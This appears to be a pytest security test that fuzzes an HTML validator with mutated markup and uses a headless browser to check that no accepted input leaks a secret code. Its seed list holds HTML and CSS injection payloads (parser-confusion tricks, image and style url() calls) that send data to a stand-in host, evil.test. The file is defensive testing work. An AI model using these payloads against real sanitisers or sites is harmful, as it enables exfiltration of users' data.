"""No message that the check of its HTML accepts tells another server its code in a real browser (AP48)."""

import random
from typing import Final

import pytest
from rest_framework import serializers

from interaction.experience import html_codes

CODE: Final = "307415"
IMAGE: Final = "<img src='"
EVIL: Final = "http://evil.test/?"
# Each is read in another way by a check that does not follow the tokenizer of the HTML standard.
SEEDS: Final = [
    ["<x", "\u00a0", 'y="', ">", IMAGE, EVIL, '"', ">", "{code}", "'", ">"],
    ["<\u017f ", 'y="', ">", IMAGE, EVIL, '"', ">", "{code}", "'", ">"],
    ["<!--", "x", "--!>", IMAGE, EVIL, "-->", "{code}", "'>"],
    ['<title a="', '</title>">', "x", '<x y="', "</title>", IMAGE, EVIL, '">', "{code}", "'>"],
    ["<a href='", "x", "'", "/", IMAGE, EVIL, "'", ">", "{code}", "'>"],
    ["<style>", "p{background:url(", EVIL, "{code}", ")}", "</style>", "<p>"],
]
PARTS: Final = sorted({part for seed in SEEDS for part in seed} | {"<select>", "=", "/", " ", "\t", "</x "})


def leaks(page, html):
    asked = []

    def refuse(route):
        asked.append(route.request.url)
        route.abort()

    page.unroute_all()
    page.route("**/*", refuse)
    page.set_content(html.replace("{code}", CODE), wait_until="domcontentloaded")
    page.wait_for_timeout(20)  # ms: style sheets load pictures when the page is drawn
    return any(CODE in url for url in asked)


def is_accepted(html):
    try:
        html_codes.check(html)
    except serializers.ValidationError:
        return False
    return True


@pytest.fixture
def page(chromium):
    with chromium.new_context() as context:
        yield context.new_page()


@pytest.mark.parametrize("seed", SEEDS, ids=lambda seed: ascii(seed[0]))
def test_attack_AP48_what_leaks_is_refused(page, seed):
    chance = random.Random(48)  # noqa: S311 - the same mutations in each run
    html = "".join(seed)
    accepted = 0
    for _ in range(200):
        mutated = seed.copy()
        for _ in range(chance.randint(1, 4)):
            mutated.insert(chance.randrange(len(mutated) + 1), chance.choice(PARTS))
            if chance.random() < 0.5:
                mutated.pop(chance.randrange(len(mutated)))
        changed = "{code}" + "".join(mutated)
        if is_accepted(changed):
            accepted += 1
            assert not leaks(page, changed), changed

    assert is_accepted(html) is not leaks(page, html)
    assert accepted or "<style>" in html
